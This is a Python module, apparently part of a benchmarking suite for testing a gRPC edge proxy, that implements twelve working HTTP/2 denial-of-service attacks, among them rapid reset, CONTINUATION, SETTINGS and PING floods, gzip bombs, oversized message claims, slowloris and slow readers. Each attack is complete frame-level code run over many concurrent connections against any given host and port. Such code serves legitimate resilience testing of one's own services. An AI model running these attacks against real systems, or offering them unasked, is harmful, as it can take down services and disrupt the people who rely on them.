"""What attackers do to one connection, in frames of HTTP/2 (RFC 9113); none of them waits for an answer."""

import asyncio
import gzip
import random
import struct
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from itertools import count

from benchmarks.measuring.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    encode,
    pack,
)

CANCEL = 8
METHOD = "/erpml.finance.v1.CreditService/ScoreCredit"
KIB, MIB = 1024, 1024 * 1024
FRAME_BYTES = 16 * KIB
CLAIM, HUGE = b"\0\xff\xff\xff\xff", b"\0\x7f\xff\xff\xff"
STREAMS = 100  # that Envoy lets be open on one connection
LISTED = struct.pack(">HL", INITIAL_WINDOW_SIZE, 0)
PAUSE_SECONDS = 0.05


@dataclass(slots=True)
class Victim:
    """One connection.

    Attributes:
        reader: What the edge says.
        writer: What it is told.
        window: Bytes that it lets be sent on the connection.
        headers: Sent with every call.
    """

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    headers: tuple[tuple[str, str], ...]
    window: int = 65_535

    async def send(self, *frames: bytes) -> None:
        """Sends frames.

        Raises:
            ConnectionError: The edge has hung up.
        """
        self.writer.write(b"".join(frames))
        await self.writer.drain()
        if self.reader.at_eof():
            raise ConnectionResetError

    def open(self, *more: tuple[str, str]) -> bytes:
        """Returns the header block of a call."""
        fixed = ((":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "localhost"))
        return encode([*fixed, ("te", "trailers"), ("content-type", "application/grpc"), *self.headers, *more])

    async def listen(self) -> None:
        """Reads frames, and notes how much may be sent."""
        while True:
            head = await self.reader.readexactly(9)
            content = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
            if head[3] == WINDOW_UPDATE and not int.from_bytes(head[5:], "big"):
                self.window += int.from_bytes(content, "big")
            if head[3] == SETTINGS and not head[4]:
                self.writer.write(pack(SETTINGS, 1, 0, b""))


Attack = Callable[[Victim], Awaitable[None]]


async def claim(victim: Victim) -> None:
    """Opens every stream it may with a message that claims 4 GiB, and sends no more of it."""
    block = victim.open()
    for stream in range(1, 2 * STREAMS, 2):
        await victim.send(pack(HEADERS, END_HEADERS, stream, block), pack(DATA, 0, stream, CLAIM + b"x"))
    await forever()


async def claim_and_end(victim: Victim) -> None:
    """The same, but ends each message at once, so that it is whole for whoever does not look at its claim."""
    block = victim.open()
    for stream in count(1, 2):
        await victim.send(pack(HEADERS, END_HEADERS, stream, block), pack(DATA, END_STREAM, stream, CLAIM + b"x"))


async def send_2_gib(victim: Victim) -> None:
    """Sends a message of 2 GiB as fast as it may."""
    part = bytes(FRAME_BYTES)
    await victim.send(pack(HEADERS, END_HEADERS, 1, victim.open()), pack(DATA, 0, 1, HUGE))
    for _ in range(2 * KIB * MIB // FRAME_BYTES):
        while victim.window < FRAME_BYTES:
            await asyncio.sleep(0.001)
            if victim.reader.at_eof():
                raise ConnectionResetError
        victim.window -= FRAME_BYTES
        await victim.send(pack(DATA, 0, 1, part))


async def bomb(victim: Victim) -> None:
    """Sends messages of 10 KiB that unpack to 10 MiB."""
    packed = gzip.compress(bytes(10 * MIB))
    body = b"\1" + len(packed).to_bytes(4, "big") + packed
    block = victim.open(("grpc-encoding", "gzip"))
    for stream in count(1, 2):
        await victim.send(pack(HEADERS, END_HEADERS, stream, block), pack(DATA, END_STREAM, stream, body))
        await asyncio.sleep(0.001)


async def reset_rapidly(victim: Victim) -> None:
    """Opens calls and takes them back at once."""
    block, code = victim.open(), CANCEL.to_bytes(4, "big")
    for stream in count(1, 2):
        await victim.send(pack(HEADERS, END_HEADERS, stream, block), pack(RST_STREAM, 0, stream, code))


async def cancel(victim: Victim) -> None:
    """Makes whole calls and takes them back at once."""
    block, code = victim.open(), CANCEL.to_bytes(4, "big")
    body = bytes(5)
    for stream in count(1, 2):
        call = pack(HEADERS, END_HEADERS, stream, block), pack(DATA, END_STREAM, stream, body)
        await victim.send(*call, pack(RST_STREAM, 0, stream, code))


async def continue_headers(victim: Victim) -> None:
    """Sends headers that never end."""
    await victim.send(pack(HEADERS, 0, 1, victim.open()))
    part = encode([("x-more", "y" * 100)])
    while True:
        await victim.send(pack(CONTINUATION, 0, 1, part))


async def send_settings(victim: Victim) -> None:
    """Sends settings, each of which wants to be confirmed."""
    while True:
        await victim.send(pack(SETTINGS, 0, 0, b"") * 100)


async def ping(victim: Victim) -> None:
    """Sends pings, each of which wants an answer."""
    while True:
        await victim.send(pack(PING, 0, 0, bytes(8)) * 100)


async def trickle(victim: Victim) -> None:
    """Sends the headers of a call byte by byte."""
    for byte in pack(HEADERS, END_HEADERS, 1, victim.open()):
        await victim.send(bytes([byte]))
        await asyncio.sleep(1.0)


async def send_anything(victim: Victim) -> None:
    """Sends frames of random kinds, flags, streams and contents."""
    chance = random.Random()  # noqa: S311 - no secret
    while True:
        kind, flags, stream = chance.randrange(12), chance.randrange(256), chance.randrange(9)
        await victim.send(pack(kind, flags, stream, chance.randbytes(chance.randrange(64))))


async def read_nothing(victim: Victim) -> None:
    """Makes calls and never lets their answers come."""
    body = bytes(5)
    block = victim.open()
    await victim.send(pack(SETTINGS, 0, 0, LISTED))
    for stream in range(1, 2 * STREAMS, 2):
        await victim.send(pack(HEADERS, END_HEADERS, stream, block), pack(DATA, END_STREAM, stream, body))
    await forever()


async def forever() -> None:
    """Waits."""
    await asyncio.Event().wait()


@dataclass(frozen=True, slots=True)
class Plan:
    """An attack.

    Attributes:
        attack: What is done to each connection, again once the edge has hung up.
        connections: How many at once.
    """

    attack: Attack
    connections: int


PLANS: Mapping[str, Plan] = {
    "4 GiB claimed on 34,000 streams": Plan(claim, 340),
    "4 GiB claimed by messages that end": Plan(claim_and_end, 8),
    "messages of 2 GiB": Plan(send_2_gib, 8),
    "gzip bombs": Plan(bomb, 8),
    "rapid reset": Plan(reset_rapidly, 8),
    "cancelled calls": Plan(cancel, 8),
    "CONTINUATION flood": Plan(continue_headers, 8),
    "SETTINGS flood": Plan(send_settings, 8),
    "PING flood": Plan(ping, 8),
    "slowloris of 1,500 connections": Plan(trickle, 1500),
    "random frames": Plan(send_anything, 8),
    "slow readers": Plan(read_nothing, 100),
}


async def attack(plan: Plan, address: str, headers: tuple[tuple[str, str], ...], seconds: float) -> int:
    """Attacks for a while; returns how many connections were made."""
    made = 0

    async def attack_again() -> None:
        nonlocal made
        while True:
            try:
                await attack_once(plan.attack, address, headers)
            except (OSError, asyncio.IncompleteReadError):
                await asyncio.sleep(PAUSE_SECONDS)
            made += 1

    attackers = [asyncio.create_task(attack_again()) for _ in range(plan.connections)]
    await asyncio.sleep(seconds)
    for attacker in attackers:
        attacker.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)
    return made


async def attack_once(attack: Attack, address: str, headers: tuple[tuple[str, str], ...]) -> None:
    """Attacks one connection until the edge hangs up.

    Raises:
        OSError: It has.
        IncompleteReadError: It has.
    """
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    victim = Victim(reader, writer, headers)
    listening = asyncio.create_task(victim.listen()) if attack is not read_nothing else None
    try:
        await victim.send(PREFACE, pack(SETTINGS, 0, 0, b""))
        attacking = asyncio.ensure_future(attack(victim))
        waited = [attacking, *([listening] if listening else [])]
        try:
            done, _ = await asyncio.wait(waited, return_when=asyncio.FIRST_COMPLETED)
            for each in done:
                each.result()
        finally:
            attacking.cancel()
            await asyncio.gather(attacking, return_exceptions=True)
    finally:
        if listening:
            listening.cancel()
            await asyncio.gather(listening, return_exceptions=True)
        writer.transport.abort()
